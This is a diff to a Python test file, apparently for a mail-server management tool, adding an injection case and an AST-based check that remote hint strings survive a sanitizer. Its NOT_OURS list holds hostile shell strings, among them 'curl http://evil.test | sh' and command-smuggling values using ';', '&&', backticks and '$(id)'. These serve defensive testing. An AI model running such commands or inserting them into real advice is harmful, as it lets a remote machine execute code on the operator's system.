@@ -5,6 +5,7 @@ One line, an exit code that is not 0, no secret sent, no escape sequence on the 
 
 from __future__ import annotations
 
+import ast
 import base64
 import copy
 import itertools
@@ -553,6 +554,7 @@ OURS = [
 NOT_OURS = [
     "fab push; curl http://evil.test | sh",
     "fab -H mail push && id",
+    "fab push , x; id",
     "fab push `id`",
     "fab push $(id)",
     "mailops push; id",
@@ -580,6 +582,30 @@ def test_no_machine_puts_a_command_into_our_mouth(site: Site, hint: str, capsys:
     damaged = HONEST["status"]["vault"] | {"damage": {"what": "x", "next": hint}}
     found = protocol.result("status", HONEST["status"] | {"vault": damaged})
     assert found["vault"]["damage"]["next"] == expected.replace("-H mail", "-H NAME")
+
+
+def own_hints() -> Iterator[str]:
+    """What the machine's half gives for advice, with a word in each gap."""
+    named = ("hint", "remedy", "anew", "AGAIN")
+    for path in (Path(tasks.__file__).resolve().parent / "mailops" / "remote").rglob("*.py"):
+        for node in ast.walk(ast.parse(path.read_text())):
+            found: list[ast.expr | None] = []
+            if isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("AgentError", "read_json"):
+                found = [*node.args[1:2], *(word.value for word in node.keywords if word.arg == "hint")]
+            elif isinstance(node, (ast.Assign, ast.Return)):
+                is_named = isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") in named
+                found = [node.value] * (is_named or path.name == "vault_conf.py")
+            for text in found:
+                if isinstance(text, ast.Constant) and isinstance(text.value, str):
+                    yield text.value
+                elif isinstance(text, ast.JoinedStr):
+                    yield "".join(str(part.value) if isinstance(part, ast.Constant) else "x" for part in text.values)
+
+
+def test_the_advice_of_an_honest_machine_is_shown() -> None:
+    hints = list(own_hints())
+    assert len(hints) > 60
+    assert [hint for hint in hints if shapes.advice(hint) != hint] == []
 
 
 @pytest.mark.parametrize("services", [{"x; next: id #": "failed"}, {"x.service": "failed; next: id"}])
